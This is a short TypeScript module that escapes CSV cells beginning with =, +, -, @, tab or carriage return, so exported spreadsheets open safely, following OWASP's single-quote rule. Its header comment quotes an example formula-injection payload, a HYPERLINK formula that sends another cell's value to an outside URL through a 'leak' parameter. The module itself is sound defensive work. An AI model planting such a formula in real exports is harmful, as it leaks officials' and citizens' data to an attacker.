// Formula injection ("CSV injection") in what the product exports: a spreadsheet program runs a cell that begins with
// = + - @ (or a tab / carriage return, which some programs strip before looking) as a formula, quoted or not, so a
// citizen's proposal titled =HYPERLINK("http://…?leak="&B2,"자세히 보기") would become a live link in an official's
// Excel. OWASP's rule: prefix such a cell with a single quote; the value stays readable, and Excel shows it as text.

/** A value a spreadsheet would read as a plain number (-3, +1.5, -1,234, 12%): it cannot be a formula, keep it. */
const PLAIN_NUMBER = /^[-+]?(\d{1,3}(,\d{3})+|\d+)(\.\d+)?%?$/;
const TRIGGERS = new Set(['=', '+', '-', '@', '\t', '\r']);

/** One CSV cell made safe to open in a spreadsheet. Numbers and text that cannot start a formula come back as they were. */
export function formulaSafe<T extends string | number | null | undefined>(value: T): T | string {
  if (typeof value !== 'string' || value === '' || !TRIGGERS.has(value[0])) return value;
  // A lone '-' (the Korean tables' "none") is no formula either.
  if (value === '-' || PLAIN_NUMBER.test(value)) return value;
  return `'${value}`;
}

/** Every cell of a grid through formulaSafe, for any CSV writer. */
export function formulaSafeRows<T extends string | number | null | undefined>(rows: T[][]): (T | string)[][] {
  return rows.map((r) => r.map(formulaSafe));
}
